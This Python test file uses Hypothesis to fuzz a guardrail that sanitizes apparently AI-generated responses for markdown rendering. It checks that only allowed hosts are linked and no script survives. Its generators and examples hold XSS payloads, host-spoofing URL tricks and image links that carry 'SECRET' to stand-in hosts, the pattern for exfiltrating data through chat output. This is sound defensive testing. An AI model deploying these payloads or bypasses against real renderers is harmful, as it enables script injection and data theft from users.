"""End to end: random responses mixing links, bare URLs, HTML, code and control characters;
the cleaned text rendered by markdown-it-py (commonmark + linkify + html) links only to
allowed http(s) hosts and holds no executable markup. And the stream equals the batch."""

from __future__ import annotations

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from rendering import problems

from analyzers.engine.guardrails.settings import GuardrailSettings
from analyzers.engine.guardrails.stream import InlineStreamAuditor, audit_text

ALLOWED = ("acme.example", "www.acme.example", ".docs.acme.example")
STRIP = GuardrailSettings.build(allowed_hosts=ALLOWED)
DEFANG = GuardrailSettings.build(allowed_hosts=ALLOWED, bare_urls="defang")

HOSTS = [
    "acme.example",
    "www.acme.example",
    "api.docs.acme.example",
    "evil.example",
    "evil.com",
    "acme.example.evil.com",
    "0x7f.1",
    "[::1]",
    "ａｃｍｅ.example",
    "xn--80ak6aa92e.com",
    "acme.example@evil.com",
    "@evil.com",
    "evil.com\\@acme.example",
    "127.0.0.1",
    "acme.exam%70le",
    "evil.com:8080",
    # hosts the renderer writes into its href so that it goes elsewhere (percent-encoded
    # backslash and other characters: userinfo there)
    "acme.example\\@evil.com",
    "acme.example%5C@evil.com",
    "acme.example|@evil.com",
    "acme.example^@evil.com",
    "acme.example`@evil.com",
    "acme.example{@evil.com",
    "acme.example}@evil.com",
    "ａｃｍｅ.example\\@evil.com",
    "acme.example\u3002evil.com",
]
SCHEMES = [
    "https://",
    "http://",
    "//",
    "HTTPS://",
    "javascript:",
    "data:text/html,",
    "ftp://",
    "https:/",
    "https:\\\\",
    "hxxps://",
    "",
    "www.",
]
PATHS = [
    "",
    "/",
    "/x?d=SECRET",
    "/p.png",
    "/a(b)c",
    "/\tpath",
    "/x\ny",
    "#frag",
    "/%0a",
    "/?u=evil.com",
    "/?next=https://evil.com",
    ".",
    ",",
    ")",
    "/?labels=alpha,evil.com",
    ",evil.com",
    "?q=a,evil.com/x",
]


@st.composite
def urls(draw) -> str:
    return (
        draw(st.sampled_from(SCHEMES)) + draw(st.sampled_from(HOSTS)) + draw(st.sampled_from(PATHS))
    )


@st.composite
def pieces(draw) -> str:
    url = draw(urls())
    label = draw(st.sampled_from(["docs", "here", url, "a [b] c", "", "`code`", "x@evil.com"]))
    kind = draw(st.integers(0, 19))
    return [
        f"[{label}]({url})",
        f"![{label}]({url})",
        f"<{url}>",
        url,
        f"See {url}.",
        f'<a href="{url}">{label}</a>',
        f"<a href='{url}' onclick=x>{label}</a>",
        f"<img src={url} onerror=alert(1)>",
        f'<iframe src="{url}"></iframe>',
        f"<form action={url}><button formaction={url}>go</button></form>",
        f'<div style="background:url({url})">x</div>',
        f"[ref]: {url}\n\n[{label}][ref]",
        f"`{url}`",
        f"```\n<script>{url}</script>\n```",
        f"<svg onload=alert(1)><a xlink:href={url}>",
        f"<script>alert('{url}')</script>",
        f"<b>{label}</b><i onclick=x>y</i>",
        f"<meta http-equiv=refresh content='0;url={url}'>",
        f"<!-- {url} -->",
        f"<video poster={url} src={url}></video> <img srcset='{url} 2x, {url} 1x'>",
    ][kind]


SEPARATORS = st.sampled_from(
    [
        " ",
        "\n",
        "\n\n",
        "\t",
        "\r\n",
        "\x00",
        "",
        "> ",
        "\n- ",
        "\n    ",
        "\n<div>\n",
        "`",
        "\\",
        "\n\n    ",  # an indented code block, or a list item's or HTML block's content
        "\n\n\t",
        "\n\n<pre>\n\n",
    ]
)
responses = st.lists(st.tuples(pieces(), SEPARATORS), min_size=1, max_size=6).map(
    lambda parts: "".join(p + s for p, s in parts)
)


# Derandomised so the suite is stable; drop `derandomize` to explore new examples (the
# `@example`s below are what such runs found, each a link or handler that rendered).


def assert_safe(text: str, settings_: GuardrailSettings) -> None:
    result = audit_text(text, settings_)
    assert problems(result.cleaned_response, ALLOWED) == [], repr((text, result.cleaned_response))
    for _, a in result.annotations:
        assert text[a.start : a.end] == a.evidence


@settings(
    max_examples=400, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(text=responses)
@example(text='<a href="https://evil.example/\tpath">docs</a>')
@example(text="![http://evil.example/p.png?d=SECRET](http://evil.example/p.png?d=SECRET)")
@example(text="a\n<div>\n`<img src=x onerror=alert(1)>`")
@example(text="<<x>script>alert(1)<</x>/script>")
# removed comments leave a blank first line: the indented line after it is a code block,
# so the backticks in it pair with nothing and the image after them renders
@example(
    text="<!-- javascript:[::1] --><!-- ftp://@evil.com) -->\n    <b>a [b] c</b><i "
    "onclick=x>y</i>`<form action=www.xn--80ak6aa92e.com/?u=evil.com><button formaction="
    "www.xn--80ak6aa92e.com/?u=evil.com>go</button></form>\n<video poster=https:\\\\evil"
    ".com#frag src=https:\\\\evil.com#frag></video> <img srcset='https:\\\\evil.com#frag"
    " 2x, https:\\\\evil.com#frag 1x'> ![here](//ａｃｍｅ.example/)`"
)
# a fence inside a list item ends with the item (the tag removed left "- " behind)
@example(text="- <img src=x>\n  ```\n[z](https://evil.example/)`")
# an HTML block inside a list item ends with the item: no code span across its end
@example(text="* <b onclick=x>\n    `x\n[z](https://evil.example/)`")
# a list item's later paragraph is indented to its content: a definition, not code
@example(text="- <b>x</b>\n\n<img src=x>\n    [ref]: hxxps://evil.com/a\n\n[][ref]")
# linkify reads a scheme URL on through a backtick, which then opens no code span
@example(
    text="here\\`HTTPS://api.docs.acme.example/p.png`\t<i onclick=x>y</i>\n    See "
    "https://evil.com..`"
)
# found (each rendered a script or a link before): a fence in a list item goes on past the blank line: the next paragraph starts inside it
@example(text="- ```\n  a\n\n  ```\n  <script>alert(1)</script>\n")
# a list item's fence closed by the next line; the indented line after it is live HTML
@example(text="- ```\n  ```\n  <script>alert(1)</script>\n")
# a tab-indented fence in a list item, closed by a line the scan took for an opener
@example(text="- a\n\t```\n  ```\n  <script>alert(1)</script>\n")
# nesting variants that held already: a block quote inside a list item (its fence closes
# with the quote), a quoted fence followed by a fence outside, a lazy continuation line
@example(text="- > ```\n  > x\n\n  ```\n  <script>alert(1)</script>\n")
@example(text="<meta http-equiv=refresh>> ```\n```\n\n```\n<img src=x onerror=alert(1)>\n```\n")
@example(text="> a `b\n```\n<script>alert(1)</script>\n```\n")
# found too: lone CR line endings: the fence closes on its second line
@example(text="~~~\r~~~\r<script>alert(1)</script>\n")
# a form feed line is no blank line: the code span crosses it
@example(text="a `x\n\x0c\ny `<script>alert(1)</script>` `\n")
# a definition after a lone CR (the fence before it closes there)
@example(text="```\n<script>x</script>\n```\r[ref]: www.evil.com\\@acme.example.\n\n[][ref]\n")
# a fence after a line that may start an HTML block is no fence (the block runs on)
@example(text="  <b>\n~~~\n\n[docs](https://evil.com/)\n")
# backticks at the start of a line after a quote are indented code, not a code span
@example(text="> x\n>\n\t```\nhttps://127.0.0.1/%0a\n\t```\n")
# a code span opened by a quote line's fence is no code span
@example(text="x\n> ```\nSee https://evil.com/?u=evil.com.\n\t```\n")
def test_the_cleaned_text_renders_only_allowed_links_and_no_script(text):
    assert_safe(text, STRIP)


@settings(
    max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(text=responses)
def test_defanged_bare_urls_render_no_link_either(text):
    assert_safe(text, DEFANG)


@settings(
    max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(text=responses, cuts=st.lists(st.integers(min_value=0, max_value=600), max_size=10))
def test_any_chunking_of_such_responses_gives_the_batch_result(text, cuts):
    batch = audit_text(text, STRIP)
    auditor = InlineStreamAuditor(STRIP)
    out, prev = [], 0
    for cut in [*sorted({c for c in cuts if c <= len(text)}), len(text)]:
        out.extend(p.text for p in auditor.feed(text[prev:cut]))
        prev = cut
    out.extend(p.text for p in auditor.finish())
    result = auditor.result()
    assert "".join(out) == batch.cleaned_response
    assert result.trace == batch.trace
    assert [a for _, a in result.annotations] == [a for _, a in batch.annotations]


# a tag removal forms a fence inside a block quote: it closes with the quote, and the fence
# the next line opens stays open past the blank line (the next paragraph starts inside it)
def test_a_removal_that_forms_a_quoted_fence_leaves_no_script_in_a_later_fence():
    text = (
        "<!-- x --> ```\n<script>a</script>\n```\n\n<meta http-equiv=refresh content='0;"
        "url=x'>> ```\n<script>a</script>\n```\n\n```\n<script>a</script>\n```\n\n"
    )
    assert_safe(text, STRIP)
